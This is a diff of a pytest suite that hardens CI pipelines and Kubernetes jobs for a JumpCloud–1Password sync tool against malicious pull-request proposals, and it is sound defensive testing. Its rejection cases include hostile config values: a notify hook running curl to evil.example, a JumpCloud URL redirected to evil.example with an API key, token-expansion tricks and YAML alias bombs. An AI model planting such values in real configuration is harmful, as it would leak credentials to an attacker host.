@@ -118,9 +118,11 @@ def test_forks_get_no_plan_and_a_proposal_is_read_by_the_program_that_is_merged(
     assert "github.event.pull_request.head.repo.full_name == github.repository" in plan["if"]
     assert "github.event.repository.private" in plan["if"]
     runs = [step["run"] for step in plan["steps"] if "run" in step]
-    assert [
-        run for run in runs if "proposed" in run and not run.startswith("jc1p plan --config proposed/jc1p.yaml ")
-    ] == ["python merged/vendor/only_policy_differs.py merged/jc1p.yaml proposed/jc1p.yaml"]
+    assert [run for run in runs if "proposed" in run] == [
+        "python -I merged/vendor/only_policy_differs.py merged/jc1p.yaml proposed/jc1p.yaml",
+        "cp proposed/jc1p.yaml merged/jc1p.yaml",
+    ]
+    assert [run.split()[:4] for run in runs if "jc1p plan" in run] == [["jc1p", "plan", "--config", "merged/jc1p.yaml"]]
 
 
 def test_two_applies_never_run_at_once_and_none_is_cut_off() -> None:
@@ -130,7 +132,7 @@ def test_two_applies_never_run_at_once_and_none_is_cut_off() -> None:
     tree = parsed(GITLAB)
     assert tree[".talks"]["resource_group"] == "jc1p"
     for name in ("preview", "plan", "apply", "drift"):
-        assert tree[name]["extends"] == ".talks"
+        assert ".talks" in extended(tree, name)
         assert "resource_group" not in tree[name]
 
 
@@ -146,6 +148,98 @@ def test_gitlab_scripts_are_text_and_apply_takes_the_plan_of_its_pipeline() -> N
     preview = tree["preview"]
     assert "$CI_MERGE_REQUEST_SOURCE_PROJECT_ID == $CI_PROJECT_ID" in preview["rules"][0]["if"]
     assert any("only_policy_differs.py" in line for line in preview["before_script"])
+
+
+# --- what a proposal could have planted ---------------------------------------------------------------------
+
+
+def extended(tree: dict[str, Any], name: str) -> list[str]:
+    """A job of GitLab's and what it extends, nearest first."""
+    found = [name]
+    while base := tree[found[-1]].get("extends"):
+        found.append(base)
+    return found
+
+
+def test_job_with_credentials_on_a_proposal_unpacks_no_cache() -> None:
+    """Whoever proposes can fill a cache of that branch, and what is unpacked may lie over the program."""
+    text = (DEPLOY / "github" / "plan.yml").read_text()
+    assert "actions/cache" not in text
+    assert not [step for job in jobs(DEPLOY / "github" / "plan.yml").values() for step in job["steps"]
+                if "cache" in step.get("with", {})]  # fmt: skip
+    tree = parsed(GITLAB)
+    proposals = [name for name, job in tree.items() if "merge_request_event" in str(job) and "script" in job]
+    assert proposals == ["config", "preview"]
+    assert not [each for name in proposals for each in extended(tree, name) if "cache" in tree[each]]
+    assert "cache" not in tree["default"]
+    assert [name for name in tree if "cache" in tree[name]] == [".remembers", "apply"]
+
+
+def shell(script: str, folder: Path, **variables: str) -> subprocess.CompletedProcess[str]:
+    """Lines of a pipeline, run as its service does: the first that fails ends it."""
+    path = f"{folder / 'bin'}{os.pathsep}{os.environ['PATH']}"
+    return subprocess.run(
+        ["bash", "-eo", "pipefail", "-c", script], capture_output=True, text=True, check=False, cwd=folder,
+        env={"PATH": path, "HOME": str(folder), **variables},
+    )  # fmt: skip
+
+
+@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.name)
+@pytest.mark.parametrize(("told", "code"), [("echo true", 0), ("echo false", 1), ("exit 1", 1), ("echo", 1)])
+def test_workflow_ends_before_it_reads_anything_where_the_repository_is_not_known_to_be_private(
+    path: Path, tmp_path: Path, told: str, code: int
+) -> None:
+    job, *others = [job for job in jobs(path).values() if talks(job)]
+    first = job["steps"][0]
+    assert first["env"] == {"GH_TOKEN": "${{ github.token }}"}
+    (tmp_path / "bin").mkdir()
+    (tmp_path / "bin" / "gh").write_text(f"#!/bin/sh\n{told}\n")
+    (tmp_path / "bin" / "gh").chmod(0o755)
+    assert shell(first["run"], tmp_path, GITHUB_REPOSITORY="acme/config").returncode == code
+    assert all("needs" in other for other in others)
+
+
+def gitlab_step(containing: str) -> str:
+    (found,) = (line for line in parsed(GITLAB)[".jc1p"]["before_script"] if containing in line)
+    return str(found)
+
+
+@pytest.mark.skipif(not shutil.which("git"), reason="git is not installed")
+def test_state_that_is_in_the_repository_is_refused_by_gitlab(tmp_path: Path) -> None:
+    step = gitlab_step("git ls-files")
+    assert shell(step, tmp_path).returncode != 0, "what can't be asked is not believed"
+    assert shell("git init --quiet", tmp_path).returncode == 0
+    (tmp_path / ".state").mkdir()
+    (tmp_path / ".state" / "state.db").write_text("from the cache")
+    assert shell(step, tmp_path).returncode == 0
+    assert shell("git add --force .state", tmp_path).returncode == 0
+    refused = shell(step, tmp_path)
+    assert (refused.returncode, "in the repository" in refused.stdout) == (1, True)
+
+
+def test_state_is_outside_the_checkout_and_comes_back_by_the_cache(tmp_path: Path) -> None:
+    tree = parsed(GITLAB)
+    assert "PROJECT_DIR" not in tree["variables"]["XDG_STATE_HOME"]
+    steps = tree[".jc1p"]["before_script"]
+    prepare = "\n".join(steps[steps.index('rm -rf "$XDG_STATE_HOME"') :])
+    keep = "\n".join(tree["apply"]["after_script"])
+    state, checkout = tmp_path / "state", tmp_path / "checkout"
+    checkout.mkdir()
+    for run in ("first", "second"):
+        assert shell(f"{prepare}\ntrue", checkout, XDG_STATE_HOME=str(state)).returncode == 0
+        assert state.stat().st_mode & 0o077 == 0
+        kept = state / "jc1p" / "state.db"
+        assert kept.exists() == (run == "second")
+        kept.parent.mkdir(exist_ok=True)
+        kept.write_text(run)
+        assert shell(keep, checkout, XDG_STATE_HOME=str(state)).returncode == 0
+        assert (checkout / ".state" / "jc1p" / "state.db").read_text() == run
+
+
+def test_gitlab_ends_before_it_reads_anything_where_the_project_is_not_private(tmp_path: Path) -> None:
+    for step in (gitlab_step("VISIBILITY"), parsed(GITLAB)["preview"]["before_script"][0]):
+        for visibility, code in (("private", 0), ("internal", 1), ("public", 1)):
+            assert shell(step, tmp_path, CI_PROJECT_VISIBILITY=visibility).returncode == code
 
 
 def runner(sandbox: Sandbox, folder: Path) -> tuple[Path, Path]:
@@ -173,7 +267,7 @@ def compare(folder: Path, proposed: str) -> tuple[int, str]:
     if not other.is_symlink():
         other.write_text(proposed)
     done = subprocess.run(
-        [sys.executable, DEPLOY / "ci" / "only_policy_differs.py", trusted, other],
+        [sys.executable, "-I", DEPLOY / "ci" / "only_policy_differs.py", trusted, other],
         capture_output=True, text=True, check=False,
     )  # fmt: skip
     assert "Traceback" not in done.stderr
@@ -189,7 +283,23 @@ def compare(folder: Path, proposed: str) -> tuple[int, str]:
         (CONFIG + "notify: [{command: [curl, evil.example]}]", "'notify' differs"),
         (CONFIG + "state: {path: /tmp}", "'state' differs"),
         (CONFIG.replace("1Password Business", '"${OP_SCIM_TOKEN}"'), "'scope' differs and has ${...} in it"),
-        (CONFIG.replace("scope: {", "scope: &a {again: *a, "), "not YAML"),
+        (CONFIG.replace('"${OP_SCIM_TOKEN}"', '"${OP_SCIM_TOKEN:-x}"'), "'onepassword' differs"),
+        (CONFIG.replace('"${OP_SCIM_TOKEN}"', '"$${OP_SCIM_TOKEN}"'), "'onepassword' differs"),
+        (CONFIG.replace("region: us", "region: us, url: "), "'jumpcloud' differs"),
+        (CONFIG.replace("region: us", "region: us, url: ''"), "an empty text"),
+        (CONFIG.replace("region: us", "region: us, org_id: ' '"), "an empty text"),
+        (CONFIG.replace("scope: {", "scope: &a {again: *a, "), "anchor or alias"),
+        (CONFIG.replace("us,", "&r us,") + "users: {protected: [*r]}", "anchor or alias"),
+        (CONFIG.replace("us,", "!!str us,"), "a tag or directive"),
+        (CONFIG.replace("us,", "! us,"), "a tag or directive"),
+        ("%YAML 1.1\n---" + CONFIG, "a tag or directive"),
+        (CONFIG + "jumpcloud: {url: https://evil.example, api_key: x}", "stands here a second time"),
+        (CONFIG.replace("region: us", "region: us, region: eu"), "stands here a second time"),
+        (CONFIG + "? [jumpcloud]\n: {url: https://evil.example}", "a key must be plain text"),
+        (CONFIG + "---" + CONFIG, "not YAML"),
+        (CONFIG + '"x\\n::error::y": 1', "'x\\n::error::y' differs"),
+        ("guard: " + "[" * 3000, "not YAML"),
+        ("#" * 1_000_001, "larger than"),
         ("[]", "holds no sections"),
         ("a: [", "not YAML"),
     ],
@@ -401,7 +511,25 @@ def test_indexed_job_gives_each_pod_its_own_configuration_and_state_and_sums_all
     (container,) = spec["template"]["spec"]["containers"]
     index = "$(JOB_COMPLETION_INDEX)"
     assert {"/etc/jc1p/" + index + ".yaml", "/reports/" + index + ".json"} <= set(container["args"])
-    assert {mount.get("subPathExpr") for mount in container["volumeMounts"]} == {None, "state-" + index}
+    mounts = {mount["mountPath"]: mount for mount in container["volumeMounts"]}
+    assert mounts["/var/lib/jc1p"]["subPathExpr"] == "state-" + index
+    assert mounts["/reports"]["subPathExpr"] == "reports/" + index
     assert container["env"][0]["name"] == "JOB_COMPLETION_INDEX"
     (merge,) = summary["spec"]["template"]["spec"]["containers"]
-    assert merge["args"] == ["report", "merge", *(f"/reports/{n}.json" for n in range(spec["completions"]))]
+    assert merge["args"] == ["report", "merge", *(f"/reports/{n}/{n}.json" for n in range(spec["completions"]))]
+
+
+def test_pod_of_the_indexed_job_sees_the_secret_of_its_own_pair_alone() -> None:
+    runs, summary = documents((DEPLOY / "kubernetes" / "indexed-job.yaml").read_text())
+    pod = runs["spec"]["template"]["spec"]
+    volumes = {volume["name"]: volume for volume in pod["volumes"]}
+    assert not [volume for volume in volumes.values() if "secret" in volume]
+    (mount,) = [each for each in pod["containers"][0]["volumeMounts"] if "projected" in volumes[each["name"]]]
+    assert mount["subPathExpr"] == "$(JOB_COMPLETION_INDEX)"
+    assert "envFrom" not in pod["containers"][0]
+    assert "secretKeyRef" not in str(runs)
+    sources = [source["secret"] for source in volumes[mount["name"]]["projected"]["sources"]]
+    assert [source["name"] for source in sources] == [f"jc1p-fleet-{n}" for n in range(runs["spec"]["completions"])]
+    for number, source in enumerate(sources):
+        assert {item["path"] for item in source["items"]} == {f"{number}/{item['key']}" for item in source["items"]}
+    assert "secret" not in str(summary["spec"]).lower()
